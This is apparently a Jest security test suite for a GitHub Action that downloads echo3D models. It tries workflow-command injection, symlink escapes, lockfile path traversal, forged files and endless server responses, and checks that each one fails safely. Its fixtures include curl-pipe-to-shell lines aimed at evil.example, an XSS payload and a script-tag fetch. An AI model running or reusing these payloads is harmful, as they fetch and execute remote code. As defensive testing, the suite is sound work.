// Attacks on the built action by those who can hand it hostile data: whoever can upload or rename
// a model in the echo3D collection, whoever can open a pull request (the workspace and the
// lockfile), and anything between the runner and echo3D. Each test tries the attack and shows that
// it fails safely.
import { afterEach, describe, expect, it } from '@jest/globals'
import { mkdir, readFile, readdir, rm, symlink, writeFile } from 'node:fs/promises'
import path from 'node:path'
import type { ServerResponse } from 'node:http'
import {
  sendForever,
  startScriptedServer,
  type ScriptedServer
} from '../../doubles/scripted-server.ts'
import { makeSample } from '../../emulator/samples.ts'
import { emulatorInputs, type RunResult } from '../../harness/runner.ts'
import {
  LOCKFILE,
  filesOutput,
  listFiles,
  log,
  pull,
  readWorkspaceFile,
  scratchFolder,
  selfSignedCertificate,
  sha256,
  sharedEmulator
} from '../support.ts'

const INJECTED = [
  '::error::injected',
  '::warning::injected',
  '::add-mask::injected',
  '::stop-commands::injected'
]

const LEGACY = '##[set-output name=changed;]$(curl -s https://evil.example/x|sh)'

const emulator = sharedEmulator({
  entries: [
    { id: `legacy ${LEGACY}`, filename: 'm ##[add-mask]glb.glb', tags: ['legacy'], derived: [] },
    {
      id: `evil\n${INJECTED[0]}-entry`,
      filename: `model.glb\n${INJECTED[1]}-extension<img src=x onerror=alert(1)>`,
      originalStorageId: `storage\n${INJECTED[2]}-storage-id`,
      tags: ['hostile'],
      derived: []
    },
    { id: 'plain', filename: 'model.glb', derived: [] },
    { id: 'lamp', filename: 'lamp.obj', material: 'lamp.mtl', textures: ['tex.png'], derived: [] },
    { id: 'lockfile-named', filename: 'scene.obj', textures: ['echo3d.lock.json'], derived: [] }
  ]
})

/** Lines of the log that start a workflow command an attacker wrote. */
function injectedCommands(result: RunResult): string[] {
  return log(result)
    .split(/\r?\n|\r/)
    .filter(line => INJECTED.some(command => line.startsWith(command)))
}

describe('workflow commands hidden in metadata and in the lockfile', () => {
  it('never start a line of the log: entry IDs, storage IDs and extensions from echo3D', async () => {
    // With debug logging, which adds a line per planned file.
    const result = await pull(emulator(), { tags: 'hostile', formats: 'original' }, { debug: true })
    expect(log(result)).toContain('injected')
    expect(injectedCommands(result)).toEqual([])
    expect(result.summary).toContain('&lt;img src=x onerror=alert(1)&gt;')
    expect(result.summary).not.toContain('<img')
  })

  it("never reach the log in the runner's older ##[command] form, which counts anywhere in a line", async () => {
    const result = await pull(emulator(), { tags: 'legacy', formats: 'original' }, { debug: true })
    expect(log(result)).toContain('set-output name=changed')
    expect(
      log(result)
        .split('\n')
        .filter(line => line.includes('##['))
    ).toEqual([])
  })

  it('never start a line of the log: paths in a lockfile', async () => {
    const workspace = await scratchFolder('hostile-lockfile')
    const folder = path.join(workspace, 'assets/echo3d')
    await mkdir(folder, { recursive: true })
    const victim = `victim\n${INJECTED[3]}.glb`
    const bytes = Buffer.from('not selected any more')
    await writeFile(path.join(folder, victim), bytes)
    const record = {
      path: `assets/echo3d/${victim}`,
      entry: `e\n${INJECTED[0]}`,
      format: 'glb',
      storageId: 's1',
      bytes: bytes.length,
      sha256: sha256(bytes)
    }
    await writeFile(path.join(workspace, LOCKFILE), JSON.stringify({ version: 1, files: [record] }))

    const inputs = { tags: 'hostile', formats: 'original', prune: 'true' }
    const pruned = await pull(emulator(), inputs, { workspace })
    expect(log(pruned)).toMatch(
      /points outside the destination folder: assets\/echo3d\/victim\\u\{a\}::stop-commands::/
    )
    expect(injectedCommands(pruned)).toEqual([])
    expect(await readFile(path.join(folder, victim))).toEqual(bytes)
  })
})

/** A workspace, and a folder beside it that a link in the workspace leads to. */
async function workspaceWithOutside(): Promise<{ workspace: string; outside: string }> {
  const root = await scratchFolder('hostile-workspace')
  const workspace = path.join(root, 'workspace')
  const outside = path.join(root, 'outside')
  await mkdir(workspace)
  await mkdir(outside)
  await writeFile(path.join(outside, 'model.glb'), 'precious')
  return { workspace, outside }
}

function lockfileOf(...records: object[]): string {
  return JSON.stringify({ version: 1, files: records })
}

describe('symbolic links in the workspace', () => {
  it('are not followed out of it when the destination folder is one', async () => {
    const { workspace, outside } = await workspaceWithOutside()
    await mkdir(path.join(workspace, 'assets'))
    await symlink(outside, path.join(workspace, 'assets/echo3d'))
    const result = await pull(emulator(), { entries: 'plain' }, { workspace })
    expect(result.code).toBe(1)
    expect(log(result)).toMatch(/'assets\/echo3d' is a symbolic link or junction/)
    expect(await readdir(outside)).toEqual(['model.glb'])
    expect(await readFile(path.join(outside, 'model.glb'), 'utf8')).toBe('precious')
  })

  it('are not followed out of it through a sub-folder that the file-name template makes', async () => {
    const { workspace, outside } = await workspaceWithOutside()
    await mkdir(path.join(workspace, 'assets/echo3d'), { recursive: true })
    await symlink(outside, path.join(workspace, 'assets/echo3d/plain'))
    const inputs = { entries: 'plain', 'file-name': '{entry}/{name}.{ext}' }
    const result = await pull(emulator(), inputs, { workspace })
    expect(result.code).toBe(1)
    expect(log(result)).toMatch(/'assets\/echo3d\/plain' is a symbolic link or junction/)
    expect(await readFile(path.join(outside, 'model.glb'), 'utf8')).toBe('precious')
  })

  it('never let prune delete outside the workspace', async () => {
    const { workspace, outside } = await workspaceWithOutside()
    await mkdir(path.join(workspace, 'assets/echo3d'), { recursive: true })
    await symlink(outside, path.join(workspace, 'assets/echo3d/sub'))
    const victim = Buffer.from('precious')
    const record = {
      path: 'assets/echo3d/sub/model.glb',
      entry: null,
      format: 'glb',
      storageId: 's1',
      bytes: victim.length,
      sha256: sha256(victim)
    }
    await writeFile(path.join(workspace, LOCKFILE), lockfileOf(record))
    const result = await pull(emulator(), { entries: 'plain', prune: 'true' }, { workspace })
    expect(log(result)).toMatch(
      /Not pruning assets\/echo3d\/sub\/model.glb: 'assets\/echo3d\/sub' is a symbolic link/
    )
    expect(await readFile(path.join(outside, 'model.glb'), 'utf8')).toBe('precious')
  })

  it('to a device are never read: a model linked to /dev/zero is replaced, in bounded time', async () => {
    const first = await pull(emulator(), { entries: 'plain' })
    const [file] = filesOutput(first)
    const modelPath = path.join(first.workspace, file.path)
    await rm(modelPath)
    await symlink('/dev/zero', modelPath)
    const started = Date.now()
    const check = await pull(
      emulator(),
      { entries: 'plain', mode: 'check' },
      { workspace: first.workspace }
    )
    expect(check.code).toBe(1)
    expect(log(check)).toMatch(/model.glb: the file on disk cannot be checked: .*symbolic link/)
    const again = await pull(emulator(), { entries: 'plain' }, { workspace: first.workspace })
    expect(again.code).toBe(0)
    expect(Date.now() - started).toBeLessThan(30_000)
    expect(sha256(await readWorkspaceFile(again, file.path))).toBe(file.sha256)
  })
})

describe('a forged file that a pull request slips in', () => {
  it('is not unchanged when its bytes are not the format, even with a lockfile that matches', async () => {
    const first = await pull(emulator(), { entries: 'plain' })
    const [file] = filesOutput(first)
    const script = Buffer.from('#!/bin/sh\ncurl https://evil.example | sh\n')
    await writeFile(path.join(first.workspace, file.path), script)
    const lock = lockfileOf({
      ...file,
      source: undefined,
      bytes: script.length,
      sha256: sha256(script)
    })
    await writeFile(path.join(first.workspace, LOCKFILE), lock)

    const check = await pull(
      emulator(),
      { entries: 'plain', mode: 'check' },
      { workspace: first.workspace }
    )
    expect(check.code).toBe(1)
    expect(log(check)).toMatch(/model.glb: the file on disk fails its format check/)
    const again = await pull(emulator(), { entries: 'plain' }, { workspace: first.workspace })
    expect(filesOutput(again)[0].source).toBe('download')
    expect(sha256(await readWorkspaceFile(again, file.path))).toBe(file.sha256)
  })
})

describe('a forged material and texture, with lockfile records to match', () => {
  it('are not unchanged: a script is neither a material nor a PNG', async () => {
    const first = await pull(emulator(), { entries: 'lamp: original' })
    const script = Buffer.from('<script>fetch("https://evil.example")</script>\n')
    const records = filesOutput(first).map(file => {
      if (file.format === 'obj') return { ...file, source: undefined }
      return { ...file, source: undefined, bytes: script.length, sha256: sha256(script) }
    })
    for (const file of records.filter(record => record.format !== 'obj')) {
      await writeFile(path.join(first.workspace, file.path), script)
    }
    await writeFile(path.join(first.workspace, LOCKFILE), lockfileOf(...records))
    const inputs = { entries: 'lamp: original', mode: 'check' }
    const check = await pull(emulator(), inputs, { workspace: first.workspace })
    expect(check.code).toBe(1)
    expect(log(check)).toMatch(/lamp.mtl: the file on disk fails its format check/)
    expect(log(check)).toMatch(/tex.png: the file on disk fails its format check/)
  })
})

describe('a forged model that is a valid GLB, with a lockfile record to match', () => {
  async function forged(): Promise<{ workspace: string; file: { path: string; sha256: string } }> {
    const first = await pull(emulator(), { entries: 'plain' })
    const [file] = filesOutput(first)
    const model = makeSample('glb', 'not the model echo3D serves')
    await writeFile(path.join(first.workspace, file.path), model)
    const record = { ...file, source: undefined, bytes: model.length, sha256: sha256(model) }
    await writeFile(path.join(first.workspace, LOCKFILE), lockfileOf(record))
    return { workspace: first.workspace, file }
  }

  it('passes a check by the lockfile, and fails one with verify: content', async () => {
    const { workspace } = await forged()
    const byLockfile = await pull(emulator(), { entries: 'plain', mode: 'check' }, { workspace })
    expect(byLockfile.code).toBe(0)
    const inputs = { entries: 'plain', mode: 'check', verify: 'content' }
    const byContent = await pull(emulator(), inputs, { workspace })
    expect(byContent.code).toBe(1)
    expect(log(byContent)).toMatch(/model.glb: the file on disk is not what echo3D serves/)
    expect(await listFiles(workspace)).toEqual([LOCKFILE, 'assets/echo3d/model.glb'].sort())
  })

  it('is replaced by a pull with verify: content, which trusts neither lockfile nor cache', async () => {
    const { workspace, file } = await forged()
    const result = await pull(emulator(), { entries: 'plain', verify: 'content' }, { workspace })
    expect(filesOutput(result)[0].source).toBe('download')
    expect(sha256(await readWorkspaceFile(result, file.path))).toBe(file.sha256)
  })
})

describe("a name from echo3D that is the lockfile's", () => {
  it('fails that asset only, and the lockfile stays a lockfile', async () => {
    const result = await pull(emulator(), { entries: 'plain\nlockfile-named: original' })
    expect(result.code).toBe(1)
    expect(log(result)).toMatch(
      /companion 'echo3d.lock.json'\): its path, 'echo3d.lock.json', is the lockfile's/
    )
    const lock = JSON.parse(await readFile(path.join(result.workspace, LOCKFILE), 'utf8')) as {
      files: { path: string }[]
    }
    expect(lock.files.map(file => file.path)).toEqual([
      'assets/echo3d/model.glb',
      'assets/echo3d/scene.obj'
    ])
  })
})

describe('a lockfile from a pull request', () => {
  it('is ignored when it is larger than any the action writes, without reading it whole', async () => {
    const workspace = await scratchFolder('hostile-large-lockfile')
    await mkdir(path.join(workspace, 'assets/echo3d'), { recursive: true })
    await writeFile(path.join(workspace, LOCKFILE), Buffer.alloc(17 * 1024 * 1024, 0x20))
    const result = await pull(emulator(), { entries: 'plain' }, { workspace })
    expect(result.code).toBe(0)
    expect(log(result)).toMatch(/is corrupt or was edited by hand \(it is larger than 16\.0 MiB\)/)
  })

  it.each([
    ['a Windows path that climbs out', 'assets/echo3d/..\\..\\..\\victims\\victim.txt'],
    ['a file outside path', 'README.md'],
    ['a dot-folder such as .git', 'assets/echo3d/.git/config']
  ])('is ignored whole when it records %s', async (_name, recorded) => {
    const workspace = await scratchFolder('hostile-record')
    await mkdir(path.join(workspace, 'assets/echo3d'), { recursive: true })
    const record = {
      path: recorded,
      entry: null,
      format: 'glb',
      storageId: 's',
      bytes: 1,
      sha256: 'a'.repeat(64)
    }
    await writeFile(path.join(workspace, LOCKFILE), lockfileOf(record))
    const result = await pull(emulator(), { entries: 'plain', prune: 'true' }, { workspace })
    expect(log(result)).toMatch(
      /The lockfile assets\/echo3d\/echo3d.lock.json is corrupt or was edited by hand \(entry 1 points outside the destination folder/
    )
    expect(await listFiles(workspace)).toEqual([
      'assets/echo3d/echo3d.lock.json',
      'assets/echo3d/model.glb'
    ])
  })
})

/** A GLB header that declares `length` bytes in all. */
function glbHeader(length: number): Buffer {
  const header = Buffer.alloc(12)
  header.write('glTF', 0, 'latin1')
  header.writeUInt32LE(2, 4)
  header.writeUInt32LE(length, 8)
  return header
}

/** The metadata of one entry whose upload is `fileName` under `storageId`. */
function metadataOf(fileName: string, storageId: string): string {
  return JSON.stringify({
    db: { hostile: { id: 'hostile', hologram: { filename: fileName, storageID: storageId } } }
  })
}

let server: ScriptedServer | undefined
afterEach(() => server?.close())

/** An echo3D that answers metadata with `metadata` and any file with `file`. */
async function hostileEcho3d(
  metadata: (response: ServerResponse) => void,
  file: (response: ServerResponse) => void
): Promise<Record<string, string>> {
  server = await startScriptedServer((request, response) => {
    const url = new URL(request.url ?? '/', 'http://x')
    if (url.searchParams.has('file')) file(response)
    else metadata(response)
  })
  return { ...emulatorInputs(emulator()), 'api-url': server.url, entries: 'hostile', retries: '1' }
}

describe('bodies without end', () => {
  it('a GLB that runs past the length its header declares is cut there, and nothing is saved', async () => {
    const inputs = await hostileEcho3d(
      response => response.end(metadataOf('model.glb', 'endless')),
      response => {
        response.writeHead(200, { 'content-type': 'model/gltf-binary' })
        response.write(glbHeader(72))
        sendForever(response, Buffer.alloc(64 * 1024))
      }
    )
    const started = Date.now()
    const result = await pull(emulator(), inputs)
    expect(result.code).toBe(1)
    expect(log(result)).toMatch(/the body ran past the 72 bytes its GLB header declares/)
    expect(Date.now() - started).toBeLessThan(20_000)
    expect(await listFiles(result.workspace)).toEqual([])
  })

  it('a file larger than max-file-size fails at the limit, without a retry', async () => {
    const inputs = await hostileEcho3d(
      response => response.end(metadataOf('model.bin', 'large')),
      response => {
        response.writeHead(200, { 'content-type': 'application/octet-stream' })
        sendForever(response, Buffer.alloc(64 * 1024, 1))
      }
    )
    const result = await pull(emulator(), {
      ...inputs,
      formats: 'original',
      'max-file-size': '1MiB'
    })
    expect(result.code).toBe(1)
    expect(log(result)).toMatch(/the file is larger than `max-file-size` \(1\.0 MiB\)/)
    expect(server?.requests.filter(request => request.includes('file='))).toHaveLength(1)
    expect(await listFiles(result.workspace)).toEqual([])
  })

  it('a declared Content-Length over max-file-size fails before a byte is written', async () => {
    const inputs = await hostileEcho3d(
      response => response.end(metadataOf('model.glb', 'declared')),
      response => {
        response.writeHead(200, { 'content-length': String(8 * 1024 * 1024 * 1024) })
        response.write(glbHeader(1000))
      }
    )
    const result = await pull(emulator(), { ...inputs, 'max-file-size': '1MiB' })
    expect(log(result)).toMatch(/the file is larger than `max-file-size`/)
    expect(await listFiles(result.workspace)).toEqual([])
  })

  it('a metadata answer that never ends is refused past its limit', async () => {
    const inputs = await hostileEcho3d(
      response => {
        response.writeHead(200, { 'content-type': 'application/json' })
        response.write('{"db":{"a":"')
        sendForever(response, Buffer.alloc(64 * 1024, 0x61))
      },
      response => response.end()
    )
    const result = await pull(emulator(), inputs)
    expect(result.code).toBe(1)
    expect(log(result)).toMatch(/is larger than 32\.0 MiB, more than echo3D sends for it/)
  })
})

describe('a redirect', () => {
  it('from https to plain http is never followed: the download is not sent in clear text', async () => {
    const tls = await selfSignedCertificate()
    const plain = await startScriptedServer((_request, response) => response.end('model'))
    try {
      server = await startScriptedServer((request, response) => {
        const url = new URL(request.url ?? '/', 'https://x')
        if (!url.searchParams.has('file')) return response.end(metadataOf('model.glb', 'm'))
        response.writeHead(302, { location: `${plain.url}/files/m` })
        response.end()
      }, tls)
      const inputs = { ...emulatorInputs(emulator()), 'api-url': server.url, entries: 'hostile' }
      const result = await pull(emulator(), inputs, { env: { NODE_EXTRA_CA_CERTS: tls.caFile } })
      expect(result.code).toBe(1)
      expect(log(result)).toMatch(/redirected the download of storage ID m from https to http/)
      expect(plain.requests).toEqual([])
    } finally {
      await plain.close()
    }
  })
})
